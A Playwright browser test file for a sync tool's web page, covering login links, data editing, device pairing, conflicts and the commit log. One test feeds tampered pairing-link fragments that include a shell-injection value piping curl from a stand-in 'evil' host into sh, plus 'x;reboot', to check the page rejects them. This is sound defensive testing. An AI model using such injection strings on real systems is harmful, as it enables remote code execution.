/** Each view in a real browser on real nodes: what it says is so, and what a person does there is done. */
import type { Locator, Page } from 'playwright-core';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';

import { eventually } from '../e2e/support.ts';
import { startTestNode, type TestNode } from '../support/node.ts';
import { answerLate, chromiumPath } from '../browser/chromium.ts';
import { sessionLink } from './browser.ts';
import { go, newBrowser } from './visit.ts';

const nodes: TestNode[] = [];
afterEach(async () => {
  for (const node of nodes.splice(0)) await node.dispose();
});

async function startNode(name: string): Promise<TestNode> {
  const node = await startTestNode({ name });
  nodes.push(node);
  return node;
}

async function answer<T>(node: TestNode, method: string, path: string, body?: unknown): Promise<T> {
  const response = await node.request(method, path, body === undefined ? {} : { body });
  if (!response.ok) throw new Error(`${method} ${path}: ${await response.text()}`);
  return (await response.json()) as T;
}

const put = (node: TestNode, subject: string, body: unknown): Promise<unknown> =>
  answer(node, 'PUT', `/v1/resources/${encodeURIComponent(subject)}`, body);

async function putMany(node: TestNode, subjects: readonly string[]): Promise<void> {
  await answer(node, 'POST', '/v1/commits', {
    changes: subjects.map((subject) => ({ subject, set: { done: false } })),
  });
}

/** Longer than the page waits for writes to settle. */
const LATE_MS = 800;

async function isInView(found: Locator): Promise<boolean> {
  const box = await found.boundingBox();
  return box !== null && box.y >= 0 && box.y + box.height <= found.page().viewportSize()!.height;
}

async function read(node: TestNode, subject: string): Promise<unknown> {
  const response = await node.request('GET', `/v1/resources/${encodeURIComponent(subject)}`);
  return response.ok ? await response.json() : null;
}

async function pair(host: TestNode, guest: TestNode): Promise<void> {
  const { link } = await answer<{ link: string }>(host, 'POST', '/v1/pairing/invites', { role: 'writer' });
  await answer(guest, 'POST', '/v1/pairing/join', { link });
}

describe.skipIf(chromiumPath === null)('the page (needs Chromium)', () => {
  const browser = newBrowser();
  let laptop: TestNode;
  beforeEach(async () => {
    laptop = await startNode('laptop');
  });

  test('lets in by a link, once, and takes the secret out of the address', async () => {
    const link = await sessionLink(laptop);
    const { page, context, complaints } = await browser.visit(laptop);
    expect(page.url()).not.toContain('session');
    expect(await page.evaluate('document.cookie')).toBe('');
    await page.reload();
    await page.getByRole('navigation', { name: 'Views' }).waitFor();

    const stranger = await context.browser()!.newContext();
    const first = await stranger.newPage();
    await first.goto(link);
    await first.getByRole('navigation', { name: 'Views' }).waitFor();
    await stranger.clearCookies();
    const second = await stranger.newPage();
    await second.goto(laptop.url);
    await second.getByText('tidelog open').first().waitFor();
    await second.goto(`${laptop.url}/?again#${link.split('#')[1]}`);
    await second.getByText('used already').waitFor();
    await stranger.close();

    await page.getByRole('button', { name: 'Leave' }).click();
    await page.getByText('tidelog open').first().waitFor();
    await page.reload();
    await page.getByText('tidelog open').first().waitFor();
    expect(complaints).toEqual([]);
  });

  test('a second link in the same browser takes the first tab along, and a tab that leaves takes no other’s session', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { page: first, context, complaints } = await browser.visit(laptop);
    const key = (page: Page): Promise<string | null> => page.evaluate(`localStorage.getItem('tidelog-session')`);
    const firstKey = await key(first);
    const second = await context.newPage();
    await second.goto(await sessionLink(laptop));
    await second.getByRole('navigation', { name: 'Views' }).waitFor();
    expect(await key(second)).not.toBe(firstKey);
    await go(first, 'Log');
    await first.getByText('title = Milk').waitFor();
    await put(laptop, 'note/2', { title: 'Bread' });
    await first.getByText('title = Bread').waitFor();
    expect(await key(first)).toBe(await key(second));

    // One that another tab stored, and that this tab has not come to know.
    await first.evaluate(`localStorage.setItem('tidelog-session', 'of another tab')`);
    await first.getByRole('button', { name: 'Leave' }).click();
    await first.getByText('tidelog open').first().waitFor();
    expect(await key(first)).toBe('of another tab');
    expect(complaints).toEqual([]);
  });

  test('shows the view that the address names, also where that changes while the page is being drawn for the first time', async () => {
    const { page, context, complaints } = await browser.visit(laptop);
    await context.addInitScript(`
      new MutationObserver((_, observer) => {
        if (document.querySelector('nav') === null) return;
        observer.disconnect();
        location.hash = '#/devices';
      }).observe(document, { childList: true, subtree: true });
    `);
    await page.reload();
    await page.getByRole('heading', { name: 'Devices', level: 1 }).waitFor();
    expect(await page.evaluate('location.hash')).toBe('#/devices');
    expect(complaints).toEqual([]);
  });

  test('a browser has left also where the node could not be told, and says so', async () => {
    const { page, context, complaints } = await browser.visit(laptop);
    await context.route('**/v1/session', (route) => route.abort());
    await page.getByRole('button', { name: 'Leave' }).click();
    const alert = page.getByRole('alert');
    await alert.getByText('the node keeps the session').waitFor();
    expect(await alert.textContent()).toContain('tidelog open --end');
    expect(await page.evaluate(`localStorage.getItem('tidelog-session')`)).toBe(null);
    await page.reload();
    await page.getByText('tidelog open').first().waitFor();
    expect(await page.getByRole('navigation').count()).toBe(0);
    expect(complaints).toEqual([]);
  });

  test('links that are pasted into a tab of the page are taken, and out of the address at once', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { page, complaints } = await browser.open(laptop.url);
    await page.getByText('tidelog open').first().waitFor();
    const paste = (link: string): Promise<unknown> => page.evaluate(`location.href = ${JSON.stringify(link)}`);
    const addresses = (): Promise<string> => page.evaluate('location.href');

    const link = await sessionLink(laptop);
    await paste(link);
    await page.getByRole('link', { name: 'note/1' }).waitFor();
    expect(await addresses()).toBe(`${laptop.url}/`);
    // Used already: whoever is in stays in.
    await paste(link);
    await eventually(async () => !(await addresses()).includes('session'), 'the secret is out of the address');
    await go(page, 'Log');
    await page.getByText('title = Milk').waitFor();
    await paste(await sessionLink(laptop));
    await page.getByRole('link', { name: 'note/1' }).waitFor();

    const pairing = await answer<{ link: string }>(laptop, 'POST', '/v1/pairing/invites', {});
    await paste(pairing.link);
    await page.getByRole('button', { name: 'Make this browser a device' }).waitFor();
    expect(await addresses()).toBe(`${laptop.url}/`);
    await paste(`${laptop.url}/#pair=x;reboot`);
    await page.getByText('This pairing link is damaged').waitFor();
    expect(await addresses()).toBe(`${laptop.url}/`);
    await page.getByRole('button', { name: 'Go to the page' }).click();
    await page.getByRole('link', { name: 'note/1' }).waitFor();
    expect(complaints).toEqual([]);
  });

  test('a link that is pasted while another is on its way is the one that counts', async () => {
    const { page, complaints } = await browser.open(laptop.url);
    await page.getByText('tidelog open').first().waitFor();
    const isAsked = page.waitForRequest('**/v1/session');
    let release = (): void => {};
    const isReleased = new Promise<void>((resolve) => (release = resolve));
    await page.route('**/v1/session', async (route) => {
      await isReleased;
      await route.continue();
    });
    const pairing = await answer<{ link: string }>(laptop, 'POST', '/v1/pairing/invites', {});
    await page.evaluate(`location.href = ${JSON.stringify(await sessionLink(laptop))}`);
    await isAsked;
    await page.evaluate(`location.href = ${JSON.stringify(pairing.link)}`);
    await page.getByRole('button', { name: 'Make this browser a device' }).waitFor();
    release();
    // Who is in may go on to the page instead.
    await page.getByRole('button', { name: 'Go to the page' }).waitFor();
    expect(await page.getByRole('button', { name: 'Make this browser a device' }).count()).toBe(1);
    expect(complaints).toEqual([]);
  });

  test('Data: made, edited with its type, seen live, brought back, deleted', async () => {
    const { page, complaints } = await browser.visit(laptop);
    await page.getByText('No data yet').waitFor();
    await page.getByRole('button', { name: 'New resource' }).click();
    await page.getByLabel('Subject', { exact: true }).fill('note/1');
    await page.getByLabel('First property').fill('title');
    await page.getByLabel('value', { exact: true }).fill('Milk');
    await page.getByRole('button', { name: 'Store it' }).click();
    await page.getByRole('heading', { name: 'note/1' }).waitFor();
    expect(await read(laptop, 'note/1')).toEqual({ title: 'Milk' });

    await page.getByRole('button', { name: 'Edit title' }).click();
    await page.getByLabel('Type of title').selectOption('number');
    await page.getByText('This isn’t a number').waitFor();
    expect(await page.getByRole('button', { name: 'Store', exact: true }).isDisabled()).toBe(true);
    await page.getByLabel('title', { exact: true }).fill('2.5');
    await page.getByRole('button', { name: 'Store', exact: true }).click();
    await page.getByRole('button', { name: 'Edit title' }).waitFor();
    expect(await read(laptop, 'note/1')).toEqual({ title: 2.5 });

    // Written elsewhere: it changes under the reader's eyes, and a person who edits it is told.
    await page.getByRole('button', { name: 'Edit title' }).click();
    await answer(laptop, 'PATCH', '/v1/resources/note%2F1', { title: 'Bread', tags: ['a'] });
    await page.getByText('changed it meanwhile').waitFor();
    await page.getByText('["a"]', { exact: true }).waitFor();
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.locator('.property .value', { hasText: 'Bread' }).waitFor();

    await page.getByRole('listitem').filter({ hasText: 'title = Milk' }).getByRole('button').last().click();
    await page.getByRole('dialog').getByRole('cell', { name: 'Bread' }).waitFor();
    await page.getByRole('button', { name: 'Bring it back' }).click();
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    expect(await read(laptop, 'note/1')).toEqual({ title: 'Milk', tags: ['a'] });

    await page.getByRole('button', { name: 'Delete', exact: true }).click();
    await page.getByRole('button', { name: 'Delete it everywhere' }).click();
    await page.getByText('It isn’t there').waitFor();
    expect(await read(laptop, 'note/1')).toBe(null);
    expect(complaints).toEqual([]);
  });

  test('Data: on a slow line, what a person stored is shown before the form is gone, and what they do next has seen it', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { page, complaints } = await browser.visit(laptop);
    await page.getByRole('link', { name: 'note/1' }).click();
    await page.getByRole('button', { name: 'Edit title' }).waitFor();
    await answerLate(page, '**/v1/resources/*', () => LATE_MS);
    await page.getByRole('button', { name: 'Edit title' }).click();
    await page.getByLabel('title', { exact: true }).fill('Bread');
    await page.getByRole('button', { name: 'Store', exact: true }).click();
    await page.getByRole('button', { name: 'Edit title' }).waitFor();
    expect(await page.locator('.property .value').first().textContent()).toBe('Bread');
    await page.getByRole('listitem').filter({ hasText: 'title = Milk' }).getByRole('button').last().click();
    await page.getByRole('button', { name: 'Bring it back' }).click();
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    expect(await page.locator('.property .value').first().textContent()).toBe('Milk');
    await page.getByRole('button', { name: 'Delete', exact: true }).click();
    await page.getByRole('button', { name: 'Delete it everywhere' }).click();
    await page.getByText('It isn’t there').waitFor();
    expect(await read(laptop, 'note/1')).toBe(null);
    expect(complaints).toEqual([]);
  });

  test('Data: on a slow line a resource that is written all the time is shown as it changes', async () => {
    await put(laptop, 'note/1', { count: 0 });
    const { page, complaints } = await browser.visit(laptop);
    await page.getByRole('link', { name: 'note/1' }).click();
    await page.locator('.property .value').waitFor();
    await answerLate(page, '**/v1/resources/*', () => LATE_MS);
    let count = 0;
    await eventually(async () => {
      await put(laptop, 'note/1', { count: ++count });
      return Number(await page.locator('.property .value').textContent()) >= 3;
    }, 'the page shows what is written');
    expect(complaints).toEqual([]);
  });

  test('Data: what is there already is never written over by a form for something new', async () => {
    await put(laptop, 'note/1', { t: 'old' });
    const { page, complaints } = await browser.visit(laptop);
    await page.getByRole('link', { name: 'note/1' }).click();
    await page.getByRole('button', { name: 'Add a property' }).click();
    const name = page.getByLabel('Name of the property');
    const value = page.getByLabel('new value', { exact: true });
    const add = page.getByRole('button', { name: 'Add', exact: true });
    await name.fill('t');
    await value.fill('new');
    await page.getByRole('alert').getByText('There is a property t already').waitFor();
    expect(await add.isDisabled()).toBe(true);
    // Another device adds it at this very moment, and this page has not heard.
    await name.fill('u');
    await page.route(
      '**/v1/resources/note%2F1?*',
      async (route) => {
        await answer(laptop, 'PATCH', '/v1/resources/note%2F1', { u: 'theirs' });
        await route.continue();
      },
      { times: 1 },
    );
    await add.click();
    await page.getByRole('alert').getByText('There is a property u already').waitFor();
    expect(await read(laptop, 'note/1')).toEqual({ t: 'old', u: 'theirs' });
    await name.fill('toString');
    await add.click();
    await page.getByRole('button', { name: 'Edit toString' }).waitFor();
    expect(await read(laptop, 'note/1')).toEqual({ t: 'old', u: 'theirs', toString: 'new' });

    await page.getByRole('button', { name: 'New resource' }).click();
    await page.getByLabel('Subject', { exact: true }).fill('note/1');
    await page.getByLabel('First property').fill('t');
    await page.getByRole('button', { name: 'Store it' }).click();
    const alert = page.getByRole('alert');
    await alert.getByText('note/1 exists already').waitFor();
    await alert.getByRole('link', { name: 'note/1' }).click();
    await page.getByRole('heading', { name: 'note/1' }).waitFor();
    expect(await read(laptop, 'note/1')).toMatchObject({ t: 'old' });
    expect(complaints).toEqual([]);
  });

  test('Data: what the space itself keeps is shown, and offers nothing that would be refused', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { page, complaints } = await browser.visit(laptop);
    await go(page, 'Log');
    await page.getByRole('link', { name: '~devices/' }).first().click();
    await page.getByText('It is changed under').waitFor();
    await page.locator('.property').first().waitFor();
    await page.locator('.commits li').first().waitFor();
    expect(await page.locator('article').getByRole('button').allTextContents()).toEqual([]);
    await page.locator('article').getByRole('link', { name: 'Devices' }).click();
    await page.getByRole('heading', { name: 'laptop' }).waitFor();
    expect(complaints).toEqual([]);
  });

  test('a value that looks like bytes and is none is shown for what it is, everywhere', async () => {
    await put(laptop, 'note/1', {
      a: { $bytes: null, x: 1 },
      b: { $bytes: 'AQID' },
      c: [{ $bytes: 7, x: [null] }],
      d: '',
    });
    const { page, complaints } = await browser.visit(laptop);
    const shown = page.getByText(/"\$bytes":null/).first();
    await shown.waitFor();
    await go(page, 'Log');
    await shown.waitFor();
    await page.locator('.commits > li').first().getByRole('link').first().click();
    await shown.waitFor();
    await go(page, 'Data');
    await page.getByRole('link', { name: 'note/1' }).click();
    await shown.waitFor();
    await page.getByText('3 bytes of data').first().waitFor();
    await page.locator('.property .value', { hasText: '(empty text)' }).waitFor();
    await page.getByRole('button', { name: 'Edit a' }).click();
    expect(await page.getByLabel('Type of a').inputValue()).toBe('list or map');
    expect(complaints).toEqual([]);
  });

  test('a view that fails says so, and the others are still there', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { page, complaints } = await browser.visit(laptop);
    await page.route('**/v1/devices*', (route) => route.fulfill({ json: { items: [null] } }));
    await go(page, 'Devices');
    await page.getByRole('alert').getByText('The page failed').waitFor();
    await go(page, 'Data');
    await page.getByRole('link', { name: 'note/1' }).waitFor();
    await go(page, 'Devices');
    await page.getByRole('alert').getByText('The page failed').waitFor();
    await page.unroute('**/v1/devices*');
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.getByRole('heading', { name: 'laptop' }).waitFor();
    expect(complaints).toEqual([]);
  });

  test('Data: found by prefix and by a part of the subject', async () => {
    for (const subject of ['note/1', 'note/2', 'task/milk', 'task/bread']) await put(laptop, subject, { done: false });
    const { page } = await browser.visit(laptop);
    const subjects = page.locator('.resources .subject');
    await page.getByText('4 resources').waitFor();
    await page.getByRole('button', { name: 'task/' }).click();
    await page.getByText('2 shown of 4').waitFor();
    expect(await subjects.allTextContents()).toEqual(['task/bread', 'task/milk']);
    await page.getByLabel('Search subjects').fill('MILK');
    await page.getByText('1 shown of 4').waitFor();
    expect(await subjects.allTextContents()).toEqual(['task/milk']);
    await page.getByLabel('Search subjects').fill('nothing');
    await page.getByRole('button', { name: 'Show everything' }).click();
    await page.getByText('4 resources').waitFor();
  });

  test('Data: a new resource can be begun while another is open, and the list stays as it was found', async () => {
    const notes = Array.from({ length: 150 }, (_, i) => `note/${String(i).padStart(3, '0')}`);
    await putMany(laptop, [...notes, 'task/1']);
    const { page, complaints } = await browser.visit(laptop);
    await page.getByText('The first 100 of 151 resources').waitFor();
    await page.getByRole('button', { name: 'Show more' }).click();
    await page.getByText('151 resources', { exact: true }).waitFor();
    const chosen = page.locator('.resources [aria-current]');
    const list = page.locator('.list-side');
    await page.getByRole('link', { name: 'note/140' }).click();
    await page.getByRole('heading', { name: 'note/140' }).waitFor();
    await page.getByText('151 resources', { exact: true }).waitFor();
    expect(await chosen.locator('.subject').textContent()).toBe('note/140');
    expect(await list.evaluate((side) => side.scrollTop)).toBeGreaterThan(0);
    expect(await isInView(page.getByRole('heading', { name: 'note/140' }))).toBe(true);
    expect(await isInView(chosen)).toBe(true);

    await page.getByLabel('Search subjects').fill('NOTE/01');
    await page.getByText('10 shown of 151').waitFor();
    await page.getByRole('link', { name: 'note/013' }).click();
    await page.getByRole('heading', { name: 'note/013' }).waitFor();
    expect(await page.getByLabel('Search subjects').inputValue()).toBe('NOTE/01');
    await page.getByText('10 shown of 151').waitFor();
    expect(await chosen.locator('.subject').textContent()).toBe('note/013');

    await page.getByRole('button', { name: 'New resource' }).click();
    await page.getByRole('heading', { name: 'New resource' }).waitFor();
    expect(await page.getByText('Nothing chosen').count()).toBe(0);
    await page.getByRole('link', { name: 'note/014' }).click();
    await page.getByRole('heading', { name: 'note/014' }).waitFor();
    await page.goBack();
    await page.getByText('Nothing chosen').waitFor();

    // On a phone the list makes room for what was chosen, and is where it was when one comes back.
    await page.setViewportSize({ width: 390, height: 844 });
    await page.getByLabel('Search subjects').fill('');
    await page.getByRole('button', { name: 'Show more' }).click();
    await page.getByRole('link', { name: 'note/140' }).click();
    await page.getByRole('heading', { name: 'note/140' }).waitFor();
    expect(await page.evaluate('scrollY')).toBe(0);
    await page.getByRole('link', { name: 'All data' }).click();
    await page.getByRole('link', { name: 'note/140' }).waitFor();
    expect(await isInView(page.getByRole('link', { name: 'note/140' }))).toBe(true);
    expect(complaints).toEqual([]);
  });

  test('Data: every prefix is offered, however many resources lie under the ones before it', async () => {
    const under = (part: string, count: number): string[] => Array.from({ length: count }, (_, i) => `${part}${i}`);
    await putMany(laptop, [
      ...under('pages/android/', 250),
      'pages/android0',
      ...under('pages/linux/', 120),
      'pages/osx/tar',
      'pages/readme',
      'zoo',
    ]);
    const { page, complaints } = await browser.visit(laptop);
    const chips = page.getByRole('group', { name: 'Prefixes' }).getByRole('button');
    const areOffered = (...names: string[]): Promise<void> =>
      eventually(async () => (await chips.allTextContents()).join() === names.join(), `${names.join()} are offered`);
    await areOffered('pages/');
    await chips.getByText('pages/').click();
    await areOffered('↑ all', 'pages/android/', 'pages/linux/', 'pages/osx/');
    await put(laptop, 'pages/sunos/df', { a: 1 });
    await areOffered('↑ all', 'pages/android/', 'pages/linux/', 'pages/osx/', 'pages/sunos/');
    await page.getByLabel('Search subjects').fill('tar');
    await areOffered('↑ all', 'pages/osx/');
    await page.getByLabel('Search subjects').fill('');
    await chips.getByText('pages/linux/').click();
    await areOffered('↑ pages/');
    await page.getByText('The first 100 that match, of 375 resources').waitFor();
    expect(complaints).toEqual([]);
  });

  test('Pair and Devices: a link with a countdown, the same digits on both sides, renamed, revoked', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const pi = await startNode('pi');
    const here = await browser.visit(laptop);
    const there = await browser.visit(pi);
    await go(here.page, 'Pair');
    await here.page.getByRole('button', { name: 'Make a link' }).click();
    await here.page.getByRole('img', { name: 'QR code' }).waitFor();
    expect(await here.page.getByRole('timer').textContent()).toMatch(/^(10:00|9:\d\d)$/);
    await here.page.getByText('listens on this machine only').waitFor();
    const link = /'(http[^']+)'/.exec((await here.page.locator('pre code').textContent())!)![1]!;

    await go(there.page, 'Pair');
    await there.page.getByLabel('Link or address').fill(link);
    await there.page.getByRole('button', { name: 'Join' }).click();
    await there.page.getByText('Everything that it has is here').waitFor();
    const digits = there.page.locator('.digits [aria-hidden]');
    const shown = await here.page.locator('.digits [aria-hidden]').textContent();
    expect(shown).toMatch(/^\d{3} \d{3}$/);
    expect(await digits.textContent()).toBe(shown);

    await here.page.getByText('It is pi, as writer.').waitFor();
    await here.page.getByRole('link', { name: 'See the devices' }).click();
    const card = here.page.getByRole('listitem').filter({ hasText: 'pi' }).last();
    await card.getByText('Up to date, connected now.').waitFor();
    await here.page.getByText('This device is the one owner.').waitFor();
    await here.page.getByText('tidelog recovery create').waitFor();
    await go(here.page, 'Health');
    await here.page.getByText('this device is its one owner').waitFor();
    await here.page.getByText('tidelog recovery create').waitFor();
    await go(here.page, 'Devices');
    await card.getByRole('button', { name: 'Name and role of pi' }).click();
    await here.page.getByRole('dialog').getByLabel('Name').fill('attic');
    await here.page.getByRole('dialog').getByLabel('Role', { exact: true }).selectOption('reader');
    await here.page.getByRole('dialog').getByRole('button', { name: 'Store' }).click();
    await here.page.getByRole('dialog').waitFor({ state: 'detached' });
    await here.page.getByRole('heading', { name: 'attic' }).waitFor();
    await here.page.getByText('reader', { exact: true }).waitFor();

    await here.page.getByRole('button', { name: 'Revoke attic' }).click();
    await here.page.getByText('This can’t be taken back.').waitFor();
    await here.page.getByRole('button', { name: 'Revoke attic for good' }).click();
    await here.page.getByRole('heading', { name: 'Revoked' }).waitFor();
    const { items } = await answer<{ items: { name: string; revoked: boolean }[] }>(laptop, 'GET', '/v1/devices');
    expect(items.find(({ name }) => name === 'attic')?.revoked).toBe(true);
    expect([...here.complaints, ...there.complaints]).toEqual([]);
  });

  test('Pair: who is no owner is told who can let a device in; spaces of one name are told apart', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const pi = await startNode('pi');
    await put(pi, 'note/1', { title: 'Bread' });
    await pair(laptop, pi);
    const { page, complaints } = await browser.visit(pi);
    const chooser = page.getByRole('combobox', { name: 'Space' });
    const { spaces } = await answer<{ spaces: { id: string; name: string; role: string }[] }>(pi, 'GET', '/v1/status');
    expect(spaces.map(({ name }) => name)).toEqual(['home', 'home']);
    await chooser.waitFor();
    const shown = await chooser.getByRole('option').allTextContents();
    expect(shown).toEqual(spaces.map(({ id }) => `home (${id.slice(0, 7)})`));

    await go(page, 'Pair');
    await chooser.selectOption(spaces.find(({ role }) => role === 'writer')!.id);
    await page.getByText('Only an owner lets devices in, and this device is a writer. Do it on laptop.').waitFor();
    expect(await page.getByRole('button', { name: 'Make a link' }).count()).toBe(0);
    await chooser.selectOption(spaces.find(({ role }) => role === 'owner')!.id);
    await page.getByRole('button', { name: 'Make a link' }).click();
    await page.getByRole('img', { name: 'QR code' }).waitFor();
    expect(complaints).toEqual([]);
  });

  test('Pair: a device that asks shows its digits, and is let in or turned away', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { page } = await browser.visit(laptop);
    await go(page, 'Pair');
    await page.getByText('Nobody waits').waitFor();
    for (const [name, button, code] of [
      ['stranger', 'Turn it away', 'pairing-rejected'],
      ['phone', 'let it in', null],
    ] as const) {
      const guest = await startNode(name);
      const joining = guest.request('POST', '/v1/pairing/join', { body: { link: laptop.url } });
      const card = page.getByRole('listitem').filter({ hasText: name });
      await card.waitFor();
      const { items } = await answer<{ items: { digits: string }[] }>(laptop, 'GET', '/v1/pairing/pending');
      expect((await card.locator('.digits [aria-hidden]').textContent())!.replace(' ', '')).toBe(items[0]!.digits);
      await card.getByRole('button', { name: button }).click();
      const response = await joining;
      expect(((await response.json()) as { code?: string }).code ?? null).toBe(code);
      await page.getByText('Nobody waits').waitFor();
    }
  });

  test('Conflicts: side by side, decided here, gone on both', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const pi = await startNode('pi');
    await pair(laptop, pi);
    await eventually(async () => (await read(pi, 'note/1')) !== null, 'the note is on both');
    const conflicts = async (node: TestNode): Promise<number> =>
      (await answer<{ items: unknown[] }>(node, 'GET', '/v1/conflicts')).items.length;
    const { page, complaints } = await browser.visit(laptop);
    await makeConflict(laptop, pi, conflicts);
    await go(page, 'Conflicts');
    const card = page.getByRole('listitem').filter({ hasText: 'both' });
    await card.first().waitFor();
    expect((await page.locator('.candidates .value').allTextContents()).toSorted()).toEqual(['here', 'there']);
    await page.getByRole('button', { name: 'Choose what pi wrote' }).click();
    await page.getByText('Nothing to decide').waitFor();
    await eventually(async () => (await conflicts(laptop)) + (await conflicts(pi)) === 0, 'no conflict anywhere');
    expect([await read(laptop, 'both'), await read(pi, 'both')]).toEqual([{ value: 'there' }, { value: 'there' }]);

    await makeConflict(laptop, pi, conflicts);
    await page.getByRole('button', { name: 'Write another value' }).click();
    await page.getByLabel('new value', { exact: true }).fill('neither');
    await page.getByRole('button', { name: 'Use this value' }).click();
    await page.getByText('Nothing to decide').waitFor();
    await eventually(async () => (await conflicts(laptop)) + (await conflicts(pi)) === 0, 'no conflict anywhere');
    expect(await read(pi, 'both')).toEqual({ value: 'neither' });
    expect(complaints).toEqual([]);
  });

  test('Log: live on top, by device and subject, one commit with its signature checked', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { page, complaints } = await browser.visit(laptop);
    await go(page, 'Log');
    await page.getByText('title = Milk').waitFor();
    await put(laptop, 'note/2', { title: 'Bread' });
    await page.getByText('title = Bread').waitFor();
    expect(await page.locator('.commits > li').first().textContent()).toContain('Bread');
    await page.getByLabel('Subject').fill('note/1');
    await page.getByText('title = Bread').waitFor({ state: 'detached' });
    await page.getByLabel('Device').selectOption({ label: 'laptop' });
    await page.getByText('title = Milk').waitFor();
    await page.locator('.commits > li').first().getByRole('link').first().click();
    await page.getByText('The signature is right: laptop wrote exactly this.').waitFor();
    const { items } = await answer<{ items: { id: string }[] }>(laptop, 'GET', '/v1/commits/newest?subject=note/1');
    await page.getByText(items[0]!.id, { exact: true }).waitFor();
    expect(complaints).toEqual([]);
  });

  test('Log and History: of a long value the beginning, and in its commit all of it', async () => {
    const body = `${'x'.repeat(199)}😀${'y'.repeat(5_000)} the end`;
    await put(laptop, 'note/1', { body, title: 'Milk' });
    const { page, complaints } = await browser.visit(laptop);
    for (const show of [() => go(page, 'Log'), () => page.locator('.commits a.subject').first().click()]) {
      await show();
      const line = page.locator('.commits .ops li').filter({ hasText: 'body = ' }).first();
      await line.waitFor();
      expect(await line.textContent()).toContain(`body = ${'x'.repeat(199)}…`);
    }
    await page.locator('.commits .when a').first().click();
    await page.getByText('The signature is right').waitFor();
    await page.locator('.changes').getByText(body).waitFor();
    expect(complaints).toEqual([]);
  });

  test('Log: held still it shows what a filter leaves, counts what comes, and has it when it goes on', async () => {
    for (const [subject, title] of [
      ['note/1', 'Milk'],
      ['note/2', 'Bread'],
    ] as const)
      await put(laptop, subject, { title });
    const { page, complaints } = await browser.visit(laptop);
    await page.getByText('live', { exact: true }).waitFor();
    await go(page, 'Log');
    await page.getByText('title = Bread').waitFor();
    await page.getByRole('button', { name: 'Hold still' }).click();
    await page.getByText('Held still. 0 came since.').waitFor();
    await page.getByLabel('Subject').fill('note/1');
    await page.getByText('title = Bread').waitFor({ state: 'detached' });
    await page.getByText('title = Milk').waitFor();
    await page.getByText('Held still. 0 came since.').waitFor();
    await put(laptop, 'note/2', { title: 'Butter' });
    await put(laptop, 'note/1', { title: 'Oat milk' });
    await page.getByText('Held still. 1 came since.').waitFor();
    expect(await page.getByText('title = Oat milk').count()).toBe(0);
    await page.getByRole('button', { name: 'Go on' }).click();
    await page.getByText('title = Oat milk').waitFor();
    expect(await page.locator('.commits > li').count()).toBe(2);

    // Held before the answer is there.
    let release = (): void => {};
    const released = new Promise<void>((resolve) => {
      release = resolve;
    });
    await page.route('**/v1/commits/newest*', async (route) => {
      await released;
      await route.continue();
    });
    await page.getByLabel('Subject').fill('');
    await page.getByRole('button', { name: 'Hold still' }).click();
    release();
    await page.getByText('title = Butter').waitFor();
    await page.getByText('Held still. 0 came since.').waitFor();
    expect(complaints).toEqual([]);
  });

  test('Health: says what to do, and shows pictures with words', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { page, complaints } = await browser.visit(laptop);
    await go(page, 'Health');
    await page.getByText('There is no backup that this node knows of.').waitFor();
    await page.getByRole('img', { name: 'Commits per second' }).waitFor();
    await page.getByRole('button', { name: 'Verify the log now' }).click();
    await page.getByText('Every link and signature was right').waitFor();
    expect(complaints).toEqual([]);
  });

  test('a pairing link can be carried to a machine, and nothing is used up by looking at it', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { link, id } = await answer<{ link: string; id: string }>(laptop, 'POST', '/v1/pairing/invites', {});
    const { page } = await browser.visit(laptop);
    await page.goto('about:blank');
    await page.goto(link);
    await page.getByRole('button', { name: 'Make this browser a device' }).waitFor();
    await page.getByText('Or pair a machine where Tidelog is installed').click();
    expect(await page.locator('pre').textContent()).toBe(`tidelog pair join '${link}'`);
    expect(page.url()).not.toContain('pair=');
    expect(await answer(laptop, 'GET', `/v1/pairing/invites/${id}`)).toMatchObject({ state: 'open' });
  });

  test('a pairing link that was tampered with is called damaged, and nothing of it is shown to be copied', async () => {
    for (const fragment of ["x';curl${IFS}evil|sh;'", 'x;reboot', 'x%27', '', 'x\u2019']) {
      const { page, complaints } = await browser.open(`${laptop.url}/#pair=${fragment}`);
      await page.getByText('This pairing link is damaged').waitFor();
      expect(await page.locator('pre').count()).toBe(0);
      expect(page.url()).toBe(`${laptop.url}/`);
      await page.getByRole('button', { name: 'Go to the page' }).click();
      await page.getByText('tidelog open').first().waitFor();
      expect(complaints).toEqual([]);
    }
  });

  test('a pairing link that was cut off is called damaged before anybody tries it', async () => {
    const { link } = await answer<{ link: string }>(laptop, 'POST', '/v1/pairing/invites', {});
    for (const cut of [link.slice(0, -1), link.slice(0, -20), `${link}A`]) {
      const { page, complaints } = await browser.open(cut);
      await page.getByText('This pairing link is damaged').waitFor();
      expect(await page.getByRole('button', { name: 'Make this browser a device' }).count()).toBe(0);
      expect(await page.locator('pre').count()).toBe(0);
      expect(complaints).toEqual([]);
    }
  });

  test('goes by keyboard alone, and reading begins where a view begins', async () => {
    await put(laptop, 'note/1', { title: 'Milk' });
    const { page } = await browser.visit(laptop);
    await page.getByText('1 resource', { exact: true }).waitFor();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    expect(await page.evaluate('document.activeElement.tagName')).toBe('H1');
    await page.getByRole('link', { name: 'note/1' }).press('Enter');
    await page.getByRole('heading', { name: 'note/1' }).waitFor();
    await eventually(
      async () => (await page.evaluate('document.activeElement.textContent')) === 'note/1',
      'the heading has the focus',
    );
    await page.getByRole('button', { name: 'Delete', exact: true }).press('Enter');
    await page.getByRole('dialog').waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Delete');
  });

